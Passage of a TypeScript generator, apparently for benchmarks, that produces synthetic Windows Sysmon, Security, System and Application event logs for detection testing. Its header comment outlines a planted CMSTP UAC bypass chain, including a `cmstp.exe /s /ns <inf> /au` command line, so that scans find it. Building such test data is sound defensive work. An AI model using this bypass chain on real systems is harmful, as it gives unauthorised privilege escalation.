// The event mix of the generated benchmark sets: one Windows 10 workstation with Sysmon, as its
// logs look after a few busy weeks. Each channel has its own stream of WriteEvents, built from a
// seeded RNG so that the same seed gives the same bytes. Value lengths follow real logs: full
// command lines (from 9 to ~450 characters), the four Sysmon hashes, GUIDs, SIDs, registry paths.
//
// Per channel (share of records within the channel):
//   Sysmon/Operational  1 process create 8%, 3 network 18%, 5 process end 8%, 7 image load 30%,
//                       10 process access 8%, 11 file create 10%, 12 registry key 4%,
//                       13 registry value 9%, 22 DNS query 5%
//   Security            4624 logon 18%, 4625 failed logon 2%, 4634 logoff 16%, 4672 special
//                       privileges 10%, 4688 process create 20%, 4689 process end 18%, 5156 WFP 16%
//   System              7036 service state 55%, 7040 start type 10%, 10016 DCOM 20%, 6013 uptime 5%,
//                       16 Kernel-General hive 10%
//   Application         1000 application error 10%, 1001 WER 15%, 16384 SPP 35%, 10000/10001
//                       Restart Manager 30%, 916 ESENT 10%
// plus, once per Sysmon file and once per Security file, the CMSTP UAC bypass (a PowerShell
// download, `cmstp.exe /s /ns <inf> /au`, the CMSTPLUA DllHost surrogate at High integrity, and
// an elevated cmd.exe child), so that scans over the set produce findings.

import { createHash } from 'node:crypto';
import type { WriteEvent, WriteValue } from '../../src/evtx/writer/index.js';
import { Rng } from '../../src/simulate/rng.js';

export type ChannelKey = 'sysmon' | 'security' | 'system' | 'application';

export const CHANNELS: Record<ChannelKey, { channel: string; fileBase: string }> = {
  sysmon: { channel: 'Microsoft-Windows-Sysmon/Operational', fileBase: 'Microsoft-Windows-Sysmon%4Operational' },
  security: { channel: 'Security', fileBase: 'Security' },
  system: { channel: 'System', fileBase: 'System' },
  application: { channel: 'Application', fileBase: 'Application' },
};

/** The mix as printed by the generator (and kept in the manifest). */
export const MIX_TEXT: Record<ChannelKey, string> = {
  sysmon: 'EventID 1 8%, 3 18%, 5 8%, 7 30%, 10 8%, 11 10%, 12 4%, 13 9%, 22 5%; one CMSTP UAC bypass per file',
  security: 'EventID 4624 18%, 4625 2%, 4634 16%, 4672 10%, 4688 20%, 4689 18%, 5156 16%; one cmstp.exe 4688 pair per file',
  system: 'EventID 7036 55%, 7040 10%, 10016 20%, 6013 5%, 16 10%',
  application: 'EventID 1000 10%, 1001 15%, 16384 35%, 10000/10001 30%, 916 10%',
};

const HOST = 'WS-FIN-0142.corp.example.com';
const DOMAIN = 'CORP';
const USER_SID = 'S-1-5-21-3623811015-3361044348-30300820-1107';
const SYSTEM32 = 'C:\\Windows\\System32';
const MS = 'Microsoft Corporation';
const CMSTPLUA = '{3E5FC7F9-9A51-4367-9063-A120244FBEC7}';

const u8 = (value: number): WriteValue => ({ type: 'uint8', value });
const u16 = (value: number): WriteValue => ({ type: 'uint16', value });
const u32 = (value: number): WriteValue => ({ type: 'uint32', value });
const u64 = (value: number): WriteValue => ({ type: 'uint64', value: BigInt(value) });
const hex64 = (value: bigint): WriteValue => ({ type: 'hex64', value });
const g = (value: string): WriteValue => ({ type: 'guid', value });
const sid = (value: string): WriteValue => ({ type: 'sid', value });
const bool = (value: boolean): WriteValue => ({ type: 'bool', value });

function hexDigest(algo: string, text: string): string {
  return createHash(algo).update(text).digest('hex').toUpperCase();
}

interface Pe {
  version: string;
  description: string;
  product: string;
  company: string;
  original: string;
  hashes: string;
}

function pe(path: string, description: string, original: string, version = '10.0.19041.1 (WinBuild.160101.0800)', product = 'Microsoft® Windows® Operating System', company = MS): Pe {
  const key = `${path}|${version}`;
  return {
    version,
    description,
    product,
    company,
    original,
    hashes: `SHA1=${hexDigest('sha1', key)},MD5=${hexDigest('md5', key)},SHA256=${hexDigest('sha256', key)},IMPHASH=${hexDigest('md5', `imp|${key}`)}`,
  };
}

interface Account {
  domain: string;
  name: string;
  sid: string;
}

const USER: Account = { domain: DOMAIN, name: 'a.meyer', sid: USER_SID };
const SYSTEM: Account = { domain: 'NT AUTHORITY', name: 'SYSTEM', sid: 'S-1-5-18' };
const LOCAL_SERVICE: Account = { domain: 'NT AUTHORITY', name: 'LOCAL SERVICE', sid: 'S-1-5-19' };
const NETWORK_SERVICE: Account = { domain: 'NT AUTHORITY', name: 'NETWORK SERVICE', sid: 'S-1-5-20' };

interface Program {
  image: string;
  pe: Pe;
  account: Account;
  integrity: 'Medium' | 'High' | 'System';
  /** Builds a command line (the RNG fills the variable parts). */
  commandLine: (r: R) => string;
  parent: string;
  weight: number;
}

/** The RNG with the few helpers the builders need. */
class R {
  readonly rng: Rng;
  constructor(seed: string) {
    this.rng = new Rng(seed);
  }
  next(): number {
    return this.rng.next();
  }
  int(lo: number, hi: number): number {
    return this.rng.int(lo, hi);
  }
  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.rng.next() * xs.length)]!;
  }
  hex(n: number): string {
    return this.rng.hex(n);
  }
  guid(): string {
    return `{${this.hex(8)}-${this.hex(4)}-${this.hex(4)}-${this.hex(4)}-${this.hex(12)}}`;
  }
  pid(): number {
    return this.rng.pid();
  }
}

const svchostGroups = [
  '-k netsvcs -p -s Schedule',
  '-k netsvcs -p -s BITS',
  '-k netsvcs -p -s wuauserv',
  '-k LocalServiceNetworkRestricted -p -s Dhcp',
  '-k NetworkService -p -s Dnscache',
  '-k LocalSystemNetworkRestricted -p -s SysMain',
  '-k UnistackSvcGroup -s CDPUserSvc_4c2a1',
  '-k DcomLaunch -p',
  '-k RPCSS -p',
  '-k appmodel -p -s StateRepository',
  '-k wsappx -p -s ClipSVC',
  '-k LocalService -p -s EventSystem',
];

const chromeArgs = [
  '--type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=',
  '--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=',
  '--type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAAAABAAAAAAAAAAEAAAAAAAAAAIAAAAAAAAAAgAAAAAAAAA --mojo-platform-channel-handle=',
  '--type=crashpad-handler "--user-data-dir=C:\\Users\\a.meyer\\AppData\\Local\\Google\\Chrome\\User Data" /prefetch:7 --monitor-self-annotation=ptype=crashpad-handler --database=',
];

const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';

const PROGRAMS: Program[] = [
  { image: `${SYSTEM32}\\svchost.exe`, pe: pe(`${SYSTEM32}\\svchost.exe`, 'Host Process for Windows Services', 'svchost.exe'), account: SYSTEM, integrity: 'System', commandLine: (r) => `C:\\Windows\\system32\\svchost.exe ${r.pick(svchostGroups)}`, parent: `${SYSTEM32}\\services.exe`, weight: 12 },
  { image: CHROME, pe: pe(CHROME, 'Google Chrome', 'chrome.exe', '120.0.6099.130', 'Google Chrome', 'Google LLC'), account: USER, integrity: 'Medium', commandLine: (r) => `"${CHROME}" ${r.pick(chromeArgs)}${r.int(1000, 9999)} --field-trial-handle=${r.int(1000, 9999)},i,${r.int(1e8, 9e8)},${r.int(1e8, 9e8)},262144 /prefetch:${r.int(1, 8)}`, parent: CHROME, weight: 16 },
  { image: EDGE, pe: pe(EDGE, 'Microsoft Edge', 'msedge.exe', '120.0.2210.91', 'Microsoft Edge'), account: USER, integrity: 'Medium', commandLine: (r) => `"${EDGE}" ${r.pick(chromeArgs)}${r.int(1000, 9999)} --field-trial-handle=${r.int(1000, 9999)},i,${r.int(1e8, 9e8)},${r.int(1e8, 9e8)},262144 /prefetch:${r.int(1, 8)}`, parent: EDGE, weight: 8 },
  { image: `${SYSTEM32}\\conhost.exe`, pe: pe(`${SYSTEM32}\\conhost.exe`, 'Console Window Host', 'CONHOST.EXE'), account: USER, integrity: 'Medium', commandLine: () => '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', parent: `${SYSTEM32}\\cmd.exe`, weight: 6 },
  { image: `${SYSTEM32}\\taskhostw.exe`, pe: pe(`${SYSTEM32}\\taskhostw.exe`, 'Host Process for Windows Tasks', 'taskhostw.exe'), account: USER, integrity: 'Medium', commandLine: (r) => r.pick(['taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly', 'taskhostw.exe KEYROAMING', 'taskhostw.exe Install $(Arg0)', 'taskhostw.exe SYSTEM']), parent: `${SYSTEM32}\\svchost.exe`, weight: 4 },
  { image: `${SYSTEM32}\\backgroundTaskHost.exe`, pe: pe(`${SYSTEM32}\\backgroundTaskHost.exe`, 'Background Task Host', 'backgroundTaskHost.exe'), account: USER, integrity: 'Medium', commandLine: (r) => `"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppX${r.hex(32).toLowerCase()}.mca`, parent: `${SYSTEM32}\\svchost.exe`, weight: 5 },
  { image: `${SYSTEM32}\\SearchProtocolHost.exe`, pe: pe(`${SYSTEM32}\\SearchProtocolHost.exe`, 'Microsoft Windows Search Protocol Host', 'SearchProtocolHost.exe'), account: SYSTEM, integrity: 'System', commandLine: (r) => `"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe${r.int(1, 99)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe${r.int(1, 99)} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" `, parent: `${SYSTEM32}\\SearchIndexer.exe`, weight: 4 },
  { image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`, pe: pe(`${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'Windows PowerShell', 'PowerShell.EXE'), account: SYSTEM, integrity: 'System', commandLine: (r) => `powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\\Program Files\\Intune Management Extension\\Policies\\Scripts\\${r.guid().slice(1, -1).toLowerCase()}_${r.int(1, 9)}.ps1"`, parent: 'C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe', weight: 3 },
  { image: `${SYSTEM32}\\cmd.exe`, pe: pe(`${SYSTEM32}\\cmd.exe`, 'Windows Command Processor', 'Cmd.Exe'), account: USER, integrity: 'Medium', commandLine: (r) => r.pick(['C:\\Windows\\system32\\cmd.exe /c ""C:\\Users\\a.meyer\\AppData\\Local\\Temp\\sync.cmd" "', '"C:\\Windows\\system32\\cmd.exe" /c ipconfig /all', 'cmd.exe /c "git rev-parse --abbrev-ref HEAD"']), parent: `${OFFICE}\\EXCEL.EXE`, weight: 3 },
  { image: `${OFFICE}\\OUTLOOK.EXE`, pe: pe(`${OFFICE}\\OUTLOOK.EXE`, 'Microsoft Outlook', 'Outlook.exe', '16.0.17126.20132', 'Microsoft Outlook'), account: USER, integrity: 'Medium', commandLine: () => `"${OFFICE}\\OUTLOOK.EXE" /recycle`, parent: 'C:\\Windows\\explorer.exe', weight: 1 },
  { image: `${OFFICE}\\EXCEL.EXE`, pe: pe(`${OFFICE}\\EXCEL.EXE`, 'Microsoft Excel', 'Excel.exe', '16.0.17126.20132', 'Microsoft Office'), account: USER, integrity: 'Medium', commandLine: (r) => `"${OFFICE}\\EXCEL.EXE" "C:\\Users\\a.meyer\\OneDrive - Corp\\Finance\\Q${r.int(1, 4)}-forecast-v${r.int(1, 30)}.xlsx"`, parent: 'C:\\Windows\\explorer.exe', weight: 2 },
  { image: `${SYSTEM32}\\RuntimeBroker.exe`, pe: pe(`${SYSTEM32}\\RuntimeBroker.exe`, 'Runtime Broker', 'RuntimeBroker.exe'), account: USER, integrity: 'Medium', commandLine: () => 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', parent: `${SYSTEM32}\\svchost.exe`, weight: 4 },
  { image: `${SYSTEM32}\\wbem\\WmiPrvSE.exe`, pe: pe(`${SYSTEM32}\\wbem\\WmiPrvSE.exe`, 'WMI Provider Host', 'Wmiprvse.exe'), account: NETWORK_SERVICE, integrity: 'System', commandLine: (r) => r.pick(['C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding']), parent: `${SYSTEM32}\\svchost.exe`, weight: 3 },
  { image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe', pe: pe('MpCmdRun.exe', 'Microsoft Malware Protection Command Line Utility', 'MpCmdRun.exe', '4.18.23110.3 (WinBuild.160101.0800)'), account: SYSTEM, integrity: 'System', commandLine: (r) => `"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe" ${r.pick(['SignatureUpdate -ScheduleJob -RestrictPrivileges', 'Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob', '-wdenable'])}`, parent: `${SYSTEM32}\\svchost.exe`, weight: 2 },
  { image: `${SYSTEM32}\\git.exe`, pe: pe('git.exe', 'Git for Windows', 'git.exe', '2.43.0.windows.1', 'Git', 'The Git Development Community'), account: USER, integrity: 'Medium', commandLine: (r) => `git.exe -c core.quotepath=false -c color.ui=false log --format=%H%x00%P%x00%an -n ${r.int(10, 500)} origin/main`, parent: `${SYSTEM32}\\cmd.exe`, weight: 2 },
];

const PROGRAM_WEIGHTS = PROGRAMS.reduce((s, p) => s + p.weight, 0);

const DLLS: Array<{ path: string; pe: Pe; signature: string }> = [
  'ntdll.dll', 'kernel32.dll', 'KernelBase.dll', 'user32.dll', 'gdi32.dll', 'advapi32.dll', 'sechost.dll', 'rpcrt4.dll', 'combase.dll', 'ole32.dll',
  'oleaut32.dll', 'shell32.dll', 'shlwapi.dll', 'ws2_32.dll', 'crypt32.dll', 'bcrypt.dll', 'ncrypt.dll', 'wintrust.dll', 'msvcrt.dll', 'ucrtbase.dll',
  'windows.storage.dll', 'wldp.dll', 'profapi.dll', 'clbcatq.dll', 'dnsapi.dll', 'iphlpapi.dll', 'winhttp.dll', 'wininet.dll', 'urlmon.dll', 'netapi32.dll',
  'samcli.dll', 'amsi.dll', 'mswsock.dll', 'dwmapi.dll', 'uxtheme.dll', 'propsys.dll', 'cfgmgr32.dll', 'setupapi.dll', 'version.dll', 'wtsapi32.dll',
].map((n) => ({ path: `${SYSTEM32}\\${n}`, pe: pe(`${SYSTEM32}\\${n}`, n.replace(/\.dll$/i, ' library'), n), signature: 'Microsoft Windows' }));

const DOMAINS = [
  'www.google.com', 'clients2.google.com', 'update.googleapis.com', 'outlook.office365.com', 'login.microsoftonline.com', 'graph.microsoft.com',
  'settings-win.data.microsoft.com', 'v10.events.data.microsoft.com', 'ctldl.windowsupdate.com', 'fe3cr.delivery.mp.microsoft.com', 'teams.microsoft.com',
  'corp-my.sharepoint.com', 'github.com', 'api.github.com', 'fileserver01.corp.example.com', 'dc01.corp.example.com', 'wpad.corp.example.com',
  'ocsp.digicert.com', 'crl.microsoft.com', 'edge.microsoft.com', 'nav.smartscreen.microsoft.com', 'cdn.jsdelivr.net', 'fonts.gstatic.com',
];

const REG_KEYS = [
  `HKU\\${USER_SID}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.xlsx\\MRUListEx`,
  `HKU\\${USER_SID}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\HRZR_PGYFRFFVBA`,
  'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\' + USER_SID + '\\\\Device\\HarddiskVolume3\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated',
  'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan\\Index',
  `HKU\\${USER_SID}\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\${'A'.repeat(8)}_ADAL\\LastUsed`,
  'HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{6A3C1C8E-9B63-4F7E-8B3A-3E6A1C2C0D11}\\DhcpIPAddress',
];

const FILE_DIRS = [
  'C:\\Users\\a.meyer\\AppData\\Local\\Temp\\',
  'C:\\Users\\a.meyer\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\',
  'C:\\Users\\a.meyer\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\',
  'C:\\Windows\\Temp\\',
  'C:\\Windows\\SoftwareDistribution\\Download\\',
  'C:\\Users\\a.meyer\\Downloads\\',
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\',
];

const SERVICES = ['Windows Update', 'Background Intelligent Transfer Service', 'Windows Modules Installer', 'WinHTTP Web Proxy Auto-Discovery Service', 'Microsoft Store Install Service', 'Delivery Optimization', 'Windows Defender Antivirus Network Inspection Service', 'Device Setup Manager', 'Software Protection', 'Google Update Service (gupdate)'];

interface Proc {
  guid: string;
  pid: number;
  program: Program;
  commandLine: string;
}

/** Yields the events of one file of one channel, forever (the writer stops when the file is full). */
export function* channelEvents(key: ChannelKey, seed: string, start: Date): Generator<WriteEvent, void, undefined> {
  const r = new R(seed);
  const gen = new Stream(r, start);
  const plantAt = r.int(20, 300);
  for (let i = 0; ; i++) {
    if (i === plantAt && (key === 'sysmon' || key === 'security')) yield* gen.cmstp(key);
    gen.advance();
    switch (key) {
      case 'sysmon':
        yield gen.sysmon();
        break;
      case 'security':
        yield gen.security();
        break;
      case 'system':
        yield gen.system();
        break;
      case 'application':
        yield gen.application();
        break;
    }
  }
}

const LOGON_GUID = '{B1C7D3A2-4E6F-61C2-2A4D-0C0000000000}';

class Stream {
  private ms: number;
  private readonly pool: Proc[] = [];
  private readonly logonGuid: string;

  constructor(
    private readonly r: R,
    start: Date,
  ) {
    this.ms = start.getTime();
    this.logonGuid = LOGON_GUID;
    for (let i = 0; i < 256; i++) this.pool.push(this.newProc());
  }

  advance(): void {
    this.ms += this.r.int(1, 900);
    this.date = null;
    this.utcText = null;
  }

  // Built once per event: an event names its time up to three times.
  private date: Date | null = null;
  private utcText: string | null = null;

  private get time(): Date {
    this.date ??= new Date(this.ms);
    return this.date;
  }

  private utc(): string {
    this.utcText ??= this.time.toISOString().replace('T', ' ').slice(0, -1);
    return this.utcText;
  }

  private program(): Program {
    let x = this.r.next() * PROGRAM_WEIGHTS;
    for (const p of PROGRAMS) {
      x -= p.weight;
      if (x < 0) return p;
    }
    return PROGRAMS[0]!;
  }

  private newProc(program = this.program()): Proc {
    return { guid: this.r.guid(), pid: this.r.pid(), program, commandLine: program.commandLine(this.r) };
  }

  private any(): Proc {
    return this.r.pick(this.pool);
  }

  private sysmonBase(eventId: number, version: number, data: Array<[string, string | WriteValue]>, threadId = 4236): WriteEvent {
    return {
      time: this.time,
      provider: 'Microsoft-Windows-Sysmon',
      providerGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
      eventId,
      version,
      level: 4,
      task: eventId,
      keywords: 0x8000000000000000n,
      processId: 3120,
      threadId,
      channel: CHANNELS.sysmon.channel,
      computer: HOST,
      userId: 'S-1-5-18',
      eventData: data,
    };
  }

  private processCreate(p: Proc, parentImage: string, parentCommandLine: string, parentGuid: string, parentPid: number, integrity: string, ruleName = '-'): WriteEvent {
    const a = p.program.account;
    return this.sysmonBase(1, 5, [
      ['RuleName', ruleName],
      ['UtcTime', this.utc()],
      ['ProcessGuid', g(p.guid)],
      ['ProcessId', u32(p.pid)],
      ['Image', p.program.image],
      ['FileVersion', p.program.pe.version],
      ['Description', p.program.pe.description],
      ['Product', p.program.pe.product],
      ['Company', p.program.pe.company],
      ['OriginalFileName', p.program.pe.original],
      ['CommandLine', p.commandLine],
      ['CurrentDirectory', a === USER ? 'C:\\Users\\a.meyer\\' : 'C:\\Windows\\system32\\'],
      ['User', `${a.domain}\\${a.name}`],
      ['LogonGuid', g(this.logonGuid)],
      ['LogonId', hex64(a === USER ? 0x2a4d0cn : 0x3e7n)],
      ['TerminalSessionId', u32(a === USER ? 1 : 0)],
      ['IntegrityLevel', integrity],
      ['Hashes', p.program.pe.hashes],
      ['ParentProcessGuid', g(parentGuid)],
      ['ParentProcessId', u32(parentPid)],
      ['ParentImage', parentImage],
      ['ParentCommandLine', parentCommandLine],
      ['ParentUser', a === USER ? `${DOMAIN}\\a.meyer` : 'NT AUTHORITY\\SYSTEM'],
    ]);
  }

  sysmon(): WriteEvent {
    const x = this.r.next();
    const p = this.any();
    const user = `${p.program.account.domain}\\${p.program.account.name}`;
    const common: Array<[string, string | WriteValue]> = [
      ['RuleName', '-'],
      ['UtcTime', this.utc()],
      ['ProcessGuid', g(p.guid)],
      ['ProcessId', u32(p.pid)],
    ];
    if (x < 0.08) {
      const child = this.newProc();
      this.pool[this.r.int(0, this.pool.length - 1)] = child;
      return this.processCreate(child, p.program.image, p.commandLine, p.guid, p.pid, child.program.integrity);
    }
    if (x < 0.26) {
      const dst = `${this.r.int(13, 52)}.${this.r.int(0, 255)}.${this.r.int(0, 255)}.${this.r.int(1, 254)}`;
      const port = this.r.pick([443, 443, 443, 80, 53, 445, 135, 5985]);
      return this.sysmonBase(
        3,
        5,
        [
          ...common,
          ['Image', p.program.image],
          ['User', user],
          ['Protocol', port === 53 ? 'udp' : 'tcp'],
          ['Initiated', bool(true)],
          ['SourceIsIpv6', bool(false)],
          ['SourceIp', '10.20.4.142'],
          ['SourceHostname', HOST],
          ['SourcePort', u16(this.r.int(49152, 65535))],
          ['SourcePortName', '-'],
          ['DestinationIsIpv6', bool(false)],
          ['DestinationIp', dst],
          ['DestinationHostname', this.r.pick(DOMAINS)],
          ['DestinationPort', u16(port)],
          ['DestinationPortName', port === 443 ? 'https' : port === 80 ? 'http' : '-'],
        ],
        4412,
      );
    }
    if (x < 0.34) return this.sysmonBase(5, 3, [...common, ['Image', p.program.image], ['User', user]]);
    if (x < 0.64) {
      const dll = this.r.pick(DLLS);
      return this.sysmonBase(
        7,
        3,
        [
          ...common,
          ['Image', p.program.image],
          ['ImageLoaded', dll.path],
          ['FileVersion', dll.pe.version],
          ['Description', dll.pe.description],
          ['Product', dll.pe.product],
          ['Company', dll.pe.company],
          ['OriginalFileName', dll.pe.original],
          ['Hashes', dll.pe.hashes],
          ['Signed', 'true'],
          ['Signature', dll.signature],
          ['SignatureStatus', 'Valid'],
          ['User', user],
        ],
        4380,
      );
    }
    if (x < 0.72) {
      const t = this.any();
      return this.sysmonBase(10, 3, [
        ['RuleName', '-'],
        ['UtcTime', this.utc()],
        ['SourceProcessGUID', g(p.guid)],
        ['SourceProcessId', u32(p.pid)],
        ['SourceThreadId', u32(p.pid + 4 * this.r.int(1, 40))],
        ['SourceImage', p.program.image],
        ['TargetProcessGUID', g(t.guid)],
        ['TargetProcessId', u32(t.pid)],
        ['TargetImage', t.program.image],
        ['GrantedAccess', this.r.pick(['0x1000', '0x1400', '0x101000', '0x1410', '0x40'])],
        [
          'CallTrace',
          `C:\\Windows\\SYSTEM32\\ntdll.dll+9d${this.r.hex(3).toLowerCase()}|C:\\Windows\\System32\\KERNELBASE.dll+2c${this.r.hex(3).toLowerCase()}|${p.program.image}+${this.r.hex(5).toLowerCase()}|C:\\Windows\\System32\\KERNEL32.DLL+17${this.r.hex(3).toLowerCase()}|C:\\Windows\\SYSTEM32\\ntdll.dll+52${this.r.hex(3).toLowerCase()}`,
        ],
        ['SourceUser', user],
        ['TargetUser', `${t.program.account.domain}\\${t.program.account.name}`],
      ]);
    }
    if (x < 0.82) {
      const name = `${this.r.pick(FILE_DIRS)}${this.r.hex(this.r.int(8, 20)).toLowerCase()}.${this.r.pick(['tmp', 'dat', 'log', 'json', 'etl', 'pf', 'cab'])}`;
      return this.sysmonBase(11, 2, [...common, ['Image', p.program.image], ['TargetFilename', name], ['CreationUtcTime', this.utc()], ['User', user]]);
    }
    const key = this.r.pick(REG_KEYS);
    if (x < 0.86) return this.sysmonBase(12, 2, [['RuleName', '-'], ['EventType', this.r.next() < 0.7 ? 'CreateKey' : 'DeleteKey'], ...common.slice(1), ['Image', p.program.image], ['TargetObject', key], ['User', user]]);
    if (x < 0.95) {
      const details = this.r.next() < 0.5 ? `DWORD (0x${this.r.hex(8).toLowerCase()})` : this.r.next() < 0.5 ? 'Binary Data' : `QWORD (0x${this.r.hex(8).toLowerCase()}-0x${this.r.hex(8).toLowerCase()})`;
      return this.sysmonBase(13, 2, [['RuleName', '-'], ['EventType', 'SetValue'], ...common.slice(1), ['Image', p.program.image], ['TargetObject', key], ['Details', details], ['User', user]]);
    }
    const results = Array.from({ length: this.r.int(1, 4) }, () => `::ffff:${this.r.int(13, 52)}.${this.r.int(0, 255)}.${this.r.int(0, 255)}.${this.r.int(1, 254)};`).join('');
    return this.sysmonBase(22, 5, [...common.slice(0, 4), ['QueryName', this.r.pick(DOMAINS)], ['QueryStatus', '0'], ['QueryResults', results], ['Image', p.program.image], ['User', user]], 4412);
  }

  private securityBase(eventId: number, version: number, task: number, data: Array<[string, string | WriteValue]>, keywords = 0x8020000000000000n): WriteEvent {
    return {
      time: this.time,
      provider: 'Microsoft-Windows-Security-Auditing',
      providerGuid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
      eventId,
      version,
      level: 0,
      task,
      keywords,
      processId: 788,
      threadId: this.r.int(800, 9000),
      channel: 'Security',
      computer: HOST,
      eventData: data,
    };
  }

  private logon(eventId: 4624 | 4625): WriteEvent {
    const network = this.r.next() < 0.4;
    const svc = this.r.pick([SYSTEM, NETWORK_SERVICE, LOCAL_SERVICE, USER]);
    const failed = eventId === 4625;
    return this.securityBase(
      eventId,
      failed ? 0 : 2,
      12544,
      [
        ['SubjectUserSid', sid('S-1-5-18')],
        ['SubjectUserName', 'WS-FIN-0142$'],
        ['SubjectDomainName', DOMAIN],
        ['SubjectLogonId', hex64(0x3e7n)],
        ...(failed ? [] : ([['TargetUserSid', sid(svc.sid)]] as Array<[string, WriteValue]>)),
        ['TargetUserName', failed ? this.r.pick(['administrator', 'a.meyer', 'svc_backup', 'scanner']) : svc.name],
        ['TargetDomainName', svc.domain],
        ...(failed
          ? ([
              ['Status', hex64(0xc000006dn)],
              ['FailureReason', '%%2313'],
              ['SubStatus', hex64(0xc000006an)],
            ] as Array<[string, WriteValue | string]>)
          : ([['TargetLogonId', hex64(BigInt(this.r.int(0x100000, 0xffffff)))]] as Array<[string, WriteValue]>)),
        ['LogonType', u32(network ? 3 : this.r.pick([2, 5, 7, 11]))],
        ['LogonProcessName', network ? 'NtLmSsp ' : 'Advapi  '],
        ['AuthenticationPackageName', network ? 'NTLM' : 'Negotiate'],
        ['WorkstationName', network ? 'WS-FIN-0188' : '-'],
        ...(failed ? [] : ([['LogonGuid', g('{00000000-0000-0000-0000-000000000000}')]] as Array<[string, WriteValue]>)),
        ['TransmittedServices', '-'],
        ['LmPackageName', network ? 'NTLM V2' : '-'],
        ['KeyLength', u32(network ? 128 : 0)],
        ['ProcessId', hex64(network ? 0x4n : 0x2f4n)],
        ['ProcessName', network ? '-' : `${SYSTEM32}\\services.exe`],
        ['IpAddress', network ? `10.20.4.${this.r.int(2, 250)}` : '-'],
        ['IpPort', network ? String(this.r.int(49152, 65535)) : '-'],
        ...(failed
          ? []
          : ([
              ['ImpersonationLevel', '%%1833'],
              ['RestrictedAdminMode', '-'],
              ['TargetOutboundUserName', '-'],
              ['TargetOutboundDomainName', '-'],
              ['VirtualAccount', '%%1843'],
              ['TargetLinkedLogonId', hex64(0n)],
              ['ElevatedToken', '%%1842'],
            ] as Array<[string, WriteValue | string]>)),
      ],
      failed ? 0x8010000000000000n : 0x8020000000000000n,
    );
  }

  security(): WriteEvent {
    const x = this.r.next();
    if (x < 0.18) return this.logon(4624);
    if (x < 0.2) return this.logon(4625);
    if (x < 0.36) return this.securityBase(4634, 0, 12545, [['TargetUserSid', sid('S-1-5-18')], ['TargetUserName', 'SYSTEM'], ['TargetDomainName', 'NT AUTHORITY'], ['TargetLogonId', hex64(BigInt(this.r.int(0x100000, 0xffffff)))], ['LogonType', u32(5)]]);
    if (x < 0.46)
      return this.securityBase(4672, 0, 12548, [
        ['SubjectUserSid', sid('S-1-5-18')],
        ['SubjectUserName', 'SYSTEM'],
        ['SubjectDomainName', 'NT AUTHORITY'],
        ['SubjectLogonId', hex64(0x3e7n)],
        ['PrivilegeList', 'SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeAuditPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege'],
      ]);
    const p = this.any();
    const a = p.program.account;
    if (x < 0.66) {
      const child = this.newProc();
      this.pool[this.r.int(0, this.pool.length - 1)] = child;
      return this.process4688(child, p.program.image, p.pid, child.program.integrity);
    }
    if (x < 0.84)
      return this.securityBase(4689, 0, 13313, [
        ['SubjectUserSid', sid(a.sid)],
        ['SubjectUserName', a === SYSTEM ? 'WS-FIN-0142$' : a.name],
        ['SubjectDomainName', a.domain],
